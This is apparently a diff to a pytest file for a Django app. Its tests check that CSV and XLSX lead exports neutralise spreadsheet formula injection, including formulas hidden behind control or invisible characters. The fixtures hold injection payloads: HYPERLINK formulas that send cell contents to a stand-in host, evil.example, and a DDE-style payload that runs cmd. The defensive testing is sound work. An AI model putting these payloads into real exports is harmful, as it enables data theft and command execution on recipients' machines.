@@ -293,9 +293,11 @@ def test_each_dangerous_prefix_is_neutralised_in_csv_and_xlsx(client, sales, val
     assert xlsx_rows(xlsx_content)[1][2] == "'" + value.replace("\r", "\n")
 
 
-def test_control_characters_keep_csv_data_and_never_break_the_xlsx(client, sales):
-    # What a form lets through: PostgreSQL refuses NUL and lone surrogates, Django's form
-    # fields refuse NUL; other controls (escape, bell, Word's vertical tab) do get stored.
+def test_control_characters_are_dropped_in_both_formats_before_formulas_are_neutralised(
+    client, sales
+):
+    # What reaches the database from older rows or other paths: escape, bell, Word's vertical
+    # tab (the lead forms and leads/cleaning.py keep new ones out).
     name = "Ana\x01Li\x1bma"
     message = "line one\x0bline two\x07\r\nend"
     make_submissions(1, name=name, message=message, company="\x02=1+1")
@@ -303,14 +305,43 @@ def test_control_characters_keep_csv_data_and_never_break_the_xlsx(client, sales
     _, xlsx_content = download(client, "/test-export/?export=xlsx")
 
     csv_row = csv_rows(csv_content)[1]
-    assert csv_row[1] == name
-    assert csv_row[3] == message
-    assert csv_row[2] == "\x02=1+1", "starts with a control: no spreadsheet reads a formula"
+    assert csv_row[1] == "AnaLima"
+    assert csv_row[3] == "line one\nline two\r\nend", "line breaks kept as typed"
+    assert csv_row[2] == "'=1+1", "LibreOffice drops the control and would run the formula"
 
     xlsx_row = xlsx_rows(xlsx_content)[1]
     assert xlsx_row[1] == "AnaLima"
     assert xlsx_row[3] == "line one\nline two\nend"
     assert xlsx_row[2] == "'=1+1", "dropping the control exposed a formula: neutralised after"
+
+
+# Stored by older rows or other paths (PostgreSQL cannot store a NUL: see the test below).
+HIDDEN_FORMULAS = {
+    "start of heading": '\x01=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    "escape": "\x1b+1+1",
+    "DEL": "\x7f-1+1",
+    "C1 control": "\x85@SUM(A1)",
+    "no-break space": "\u00a0=1+1",
+    "ideographic space": "\u3000=1+1",
+    "zero-width space": "\u200b=1+1",
+    "byte order mark": "\ufeff=1+1",
+    "right-to-left mark": "\u200f=1+1",
+    "line separator": "\u2028=1+1",
+}
+
+
+@pytest.mark.parametrize("value", HIDDEN_FORMULAS.values(), ids=HIDDEN_FORMULAS.keys())
+@pytest.mark.parametrize("column", ["name", "company", "message"])
+def test_formula_behind_invisible_characters_is_neutralised_in_every_column(
+    client, sales, value, column
+):
+    make_submissions(1, **{column: value})
+    _, csv_content = download(client, "/test-export/?export=csv")
+    _, xlsx_content = download(client, "/test-export/?export=xlsx")
+    position = LIST_EXPORT.index(f"answers.{column}")
+    for exported in (csv_rows(csv_content)[1][position], xlsx_rows(xlsx_content)[1][position]):
+        assert exported.startswith("'"), repr(exported)
+        assert "=" in exported or "+" in exported or "@" in exported or "-" in exported
 
 
 def test_lone_surrogate_cannot_end_a_csv_download():
@@ -413,3 +444,48 @@ def test_inbox_export_gives_editors_no_file(client, django_user_model, role):
     response = client.get(reverse("leads_inbox:index") + "?export=csv", follow=True)
     assert not response.streaming
     assert b"Secret Corp" not in response.content
+
+
+def test_formula_behind_a_nul_is_neutralised_before_it_reaches_the_csv():
+    """PostgreSQL cannot store a NUL, SQLite can (and older rows may hold one): the cell is
+    cleaned, then neutralised, whatever the database gave."""
+    view = ExportView()
+    cell = view.safe_cell_value("utm_source", '\x00=HYPERLINK("https://evil.example")', "csv")
+    assert cell == '\'=HYPERLINK("https://evil.example")'
+
+
+@pytest.mark.parametrize("export", ["csv", "xlsx"])
+def test_inbox_neutralises_a_formula_hidden_behind_a_control_in_a_utm_column(client, sales, export):
+    capture_lead(make_cta("quote"))
+    Submission.objects.update(
+        utm_source='\x1b=HYPERLINK("https://evil.example/?"&B2,"Open")',
+        utm_campaign="\u00a0@SUM(1+1)*cmd|' /C calc'!A0",
+    )
+    _, content = download(client, reverse("leads_inbox:index") + f"?export={export}")
+    header, row = csv_rows(content) if export == "csv" else xlsx_rows(content)
+    exported = dict(zip(header, row, strict=True))
+    assert exported["UTM source"] == '\'=HYPERLINK("https://evil.example/?"&B2,"Open")'
+    assert exported["UTM campaign"] == "'\u00a0@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize("export", ["csv", "xlsx"])
+@pytest.mark.parametrize("phone", ["+44 20 7946 0000", "+1 (555) 010-0199", "-0049.30/1234"])
+def test_inbox_exports_plain_phone_numbers_without_a_quote_a_crm_would_import(
+    client, sales, export, phone
+):
+    capture_lead(make_cta("quote"), phone=phone)
+    _, content = download(client, reverse("leads_inbox:index") + f"?export={export}")
+    header, row = csv_rows(content) if export == "csv" else xlsx_rows(content)
+    assert dict(zip(header, row, strict=True))["Phone"] == phone
+
+
+@pytest.mark.parametrize("export", ["csv", "xlsx"])
+@pytest.mark.parametrize("phone", ["=1+1", "+1 HYPERLINK(A1)", "\x1b+44 20 7946 0000|A"])
+def test_a_phone_column_holding_anything_but_a_number_is_still_neutralised(
+    client, sales, export, phone
+):
+    capture_lead(make_cta("quote"))
+    Contact.objects.update(phone=phone)
+    _, content = download(client, reverse("leads_inbox:index") + f"?export={export}")
+    header, row = csv_rows(content) if export == "csv" else xlsx_rows(content)
+    assert dict(zip(header, row, strict=True))["Phone"].startswith("'")
